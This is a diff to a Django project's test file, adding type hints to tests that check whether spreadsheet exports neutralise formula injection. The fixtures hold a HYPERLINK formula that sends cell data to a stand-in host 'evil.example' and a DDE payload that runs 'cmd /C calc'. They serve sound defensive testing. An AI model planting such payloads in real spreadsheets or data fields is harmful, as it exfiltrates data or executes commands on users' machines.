@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 from io import BytesIO
+from pathlib import Path
 
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from shijian.web.tabular import formula_safe, write_xlsx, write_xlsx_file
+from tests.conftest import World
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
@@ -26,7 +28,7 @@ def test_an_excel_export_writes_no_formula() -> None:
     assert cells[0].value == "'" + EVIL and cells[2].value == -7
 
 
-def test_the_streamed_export_writes_text_as_text_dates_as_dates_and_no_formula(tmp_path) -> None:
+def test_the_streamed_export_writes_text_as_text_dates_as_dates_and_no_formula(tmp_path: Path) -> None:
     import datetime as dt
     from decimal import Decimal
 
@@ -42,7 +44,7 @@ def test_the_streamed_export_writes_text_as_text_dates_as_dates_and_no_formula(t
     assert ws["D2"].value is None and ws["D3"].value == "http://x.cn" and not ws["D3"].hyperlink
 
 
-def test_the_entity_export_keeps_an_entity_name_as_text(world) -> None:
+def test_the_entity_export_keeps_an_entity_name_as_text(world: World) -> None:
     from shijian.registry.models import Entity
 
     Entity.objects.filter(pk=world.entities["hecheng"].pk).update(name=EVIL)
@@ -55,7 +57,7 @@ def test_the_entity_export_keeps_an_entity_name_as_text(world) -> None:
     assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
 
 
-def test_a_responsibility_note_written_by_a_town_officer_stays_text_for_the_auditor(world) -> None:
+def test_a_responsibility_note_written_by_a_town_officer_stays_text_for_the_auditor(world: World) -> None:
     from shijian.registry.models import Responsibility
 
     Responsibility.objects.filter(department=world.depts["hecheng"]).update(note="@SUM(1+1)*cmd|' /C calc'!A0")
